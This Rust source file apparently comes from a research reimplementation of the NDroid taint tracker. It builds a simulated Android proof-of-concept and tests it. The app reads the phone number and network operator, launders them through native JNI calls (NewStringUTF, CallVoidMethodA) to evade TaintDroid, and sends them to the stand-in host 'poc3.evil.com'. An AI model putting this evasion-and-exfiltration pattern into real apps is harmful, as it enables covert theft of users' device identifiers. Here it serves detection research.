//! The proof-of-concept app for Case 3 (Fig. 9).
//!
//! Java gathers device information (`Line1Number`, `NetworkOperator`,
//! …) and hands it to the native `evadeTaintDroid`. The native code
//! wraps it in a **new** Java string (`NewStringUTF`, step 1) and
//! invokes the Java method `nativeCallback` through `CallVoidMethodA`
//! (step 2 → `dvmCallMethodA` → `dvmInterpret`), which sends it out.

use crate::builder::{App, AppBuilder};
use ndroid_arm::reg::RegList;
use ndroid_arm::Reg;
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid_jni::dvm_addr;

/// Builds the Case-3 PoC.
pub fn poc_case3() -> App {
    let mut b = AppBuilder::new(
        "PoC-case3",
        "Fig. 9: evadeTaintDroid -> NewStringUTF -> CallVoidMethodA(nativeCallback)",
    );
    let c = b.class("Lcom/ndroid/demos/Demos;");
    let cls_str = b.data_cstr("Lcom/ndroid/demos/Demos;");
    let cb_str = b.data_cstr("nativeCallback");
    let jvalue_buf = b.data_buffer(16); // jvalue[] for CallVoidMethodA

    // void evadeTaintDroid(String info) — virtual: r0 = this, r1 = info.
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::LR]));
    b.asm.mov(Reg::R4, Reg::R0); // this
    b.asm.mov(Reg::R0, Reg::R1); // info jstring
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    // Step 1: wrap the (tainted) chars in a fresh String.
    b.asm.call_abs(dvm_addr("NewStringUTF"));
    b.asm.mov(Reg::R5, Reg::R0); // new jstring (indirect ref)
    // Resolve nativeCallback.
    b.asm.ldr_const(Reg::R0, cls_str);
    b.asm.call_abs(dvm_addr("FindClass"));
    b.asm.ldr_const(Reg::R1, cb_str);
    b.asm.call_abs(dvm_addr("GetMethodID"));
    b.asm.mov(Reg::R6, Reg::R0); // jmethodID
    // jvalue[0] = the new string.
    b.asm.ldr_const(Reg::R0, jvalue_buf);
    b.asm.str(Reg::R5, Reg::R0, 0);
    // Step 2: CallVoidMethodA(this, mid, jvalues)
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.mov(Reg::R1, Reg::R6);
    b.asm.ldr_const(Reg::R2, jvalue_buf);
    b.asm.call_abs(dvm_addr("CallVoidMethodA"));
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::PC]));
    let evade = b.native_method(c, "evadeTaintDroid", "VL", false, entry);

    let send = b
        .program
        .find_method_by_name("Ljava/net/Socket;", "send")
        .unwrap();
    let dest = b.string_const("poc3.evil.com");
    // void nativeCallback(String s) — virtual, shorty VL, ins 2, access
    // flag 0x1, matching Fig. 9 exactly.
    b.method(
        c,
        MethodDef::new(
            "nativeCallback",
            "VL",
            MethodKind::Bytecode(vec![
                // v(this)=reg 3, v(s)=reg 4 for registers_size 5 (Fig. 9
                // logs registerSize 5, insSize 2).
                DexInsn::ConstString { dst: 0, index: dest },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: send,
                    args: vec![0, 4],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .virtual_method()
        .with_registers(5),
    );

    let line1 = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getLine1Number")
        .unwrap();
    let netop = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getNetworkOperator")
        .unwrap();
    let concat = b
        .program
        .find_method_by_name("Ljava/lang/String;", "concat")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::NewInstance { dst: 0, class: c },
                // info = Line1Number ++ NetworkOperator (multi-bit taint).
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: line1,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 1 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: netop,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 2 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: concat,
                    args: vec![1, 2],
                },
                DexInsn::MoveResult { dst: 1 },
                DexInsn::Invoke {
                    kind: InvokeKind::Virtual,
                    method: evade,
                    args: vec![0, 1],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(3),
    );
    let mut app = b.finish("Lcom/ndroid/demos/Demos;", "main").unwrap();
    app.lib_name = "libdemos.so".to_string();
    app
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;
    use ndroid_dvm::Taint;

    #[test]
    fn taintdroid_misses_the_callback_leak() {
        let sys = poc_case3().run(Mode::TaintDroid).unwrap();
        assert!(sys.leaks().is_empty());
        // The sink still fired with the device info.
        assert!(sys
            .all_sink_events()
            .iter()
            .any(|e| String::from_utf8_lossy(&e.data).contains("15555215554")));
    }

    #[test]
    fn ndroid_catches_with_combined_taint() {
        let sys = poc_case3().run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::PHONE_NUMBER));
        assert!(leaks[0].taint.contains(Taint::IMSI));
        assert_eq!(leaks[0].dest, "poc3.evil.com");
        assert!(String::from_utf8_lossy(&leaks[0].data).contains("15555215554"), "Line1Number");
        assert!(String::from_utf8_lossy(&leaks[0].data).contains("310260"), "NetworkOperator");
    }

    #[test]
    fn trace_matches_fig9_structure() {
        let sys = poc_case3().run(Mode::NDroid).unwrap();
        let log = sys.trace.render();
        assert!(log.contains("evadeTaintDroid"));
        assert!(log.contains("NewStringUTF Begin"));
        assert!(log.contains("CallVoidMethodA Begin"));
        assert!(log.contains("dvmCallMethod Begin"));
        assert!(log.contains("dvmInterpret Begin"));
        assert!(log.contains("Method Name: nativeCallback"));
        assert!(log.contains("Method Shorty: VL"));
        assert!(log.contains("Method registerSize: 5"));
        assert!(log.contains("curFrame@0x44bf"));
    }

    #[test]
    fn multilevel_chain_fires_for_the_callback() {
        let sys = poc_case3().run(Mode::NDroid).unwrap();
        let stats = sys.ndroid_stats().unwrap();
        assert!(
            stats.chains_activated >= 1,
            "CallVoidMethodA chain activated from native code"
        );
        assert!(stats.deep_hooks >= 2, "the bridge and dvmInterpret hooked");
    }
}
